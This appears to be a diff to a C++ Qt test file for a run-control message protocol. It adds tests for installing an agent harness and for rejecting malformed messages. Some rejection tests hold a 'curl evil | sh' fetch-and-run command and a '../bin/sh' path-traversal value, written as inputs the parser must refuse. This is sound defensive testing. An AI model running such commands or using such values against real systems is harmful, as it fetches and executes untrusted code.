@@ -510,6 +510,17 @@ void TestControlMessage::runMessagesRoundTrip_data()
     withUsb.devices = { ForwardedDevice { 9, QStringLiteral("fwd-hsm"), DeviceSpec::Kind::Usb,
         QString(), QString(), 1500, QStringLiteral("1-1.4") } };
     QTest::newRow("run.start with a USB device") << ControlMessage(withUsb);
+    RunStart harness;
+    harness.runId = 43;
+    harness.workdir = QStringLiteral("runs/43");
+    harness.harness = QStringLiteral("claude");
+    harness.env = { { QStringLiteral("CLOOP_RUN_ID"), QStringLiteral("43") } };
+    QTest::newRow("run.start installing a harness") << ControlMessage(harness);
+    QTest::newRow("capabilities") << ControlMessage(
+        CapabilitiesReport { QJsonObject { { QStringLiteral("mode"), QStringLiteral("host") },
+            { QStringLiteral("harnesses"),
+                QJsonObject { { QStringLiteral("claude"),
+                    QStringLiteral("/h/.npm-global/bin/claude") } } } } });
     QTest::newRow("run.cancel") << ControlMessage(
         RunCancel { 41, QStringLiteral("cancelled by alice") });
     QTest::newRow("run.ack") << ControlMessage(RunAck { 41, 65536 });
@@ -563,6 +574,15 @@ void TestControlMessage::runMessagesRefused_data()
     QTest::newRow("start env multi-line")
         << QByteArray(R"({"type":"run.start","run_id":1,"workdir":"w","argv":["x"],"env":{"A":"1
 2"}})") << QStringLiteral("env");
+    QTest::newRow("a harness install with a command of the hub's") << QByteArray(
+        R"({"type":"run.start","run_id":1,"workdir":"w","harness":"claude",)"
+        R"("argv":["sh","-c","curl evil | sh"]})") << QStringLiteral("carries no \"argv\"");
+    QTest::newRow("a harness that is no name")
+        << QByteArray(R"({"type":"run.start","run_id":1,"workdir":"w","harness":"../bin/sh"})")
+        << QStringLiteral("not a harness name");
+    QTest::newRow("capabilities that are no object")
+        << QByteArray(R"({"type":"capabilities","capabilities":[1]})")
+        << QStringLiteral("capabilities");
     QTest::newRow("start run id 0")
         << QByteArray(R"({"type":"run.start","run_id":0,"workdir":"w","argv":["x"]})")
         << QStringLiteral("run_id");
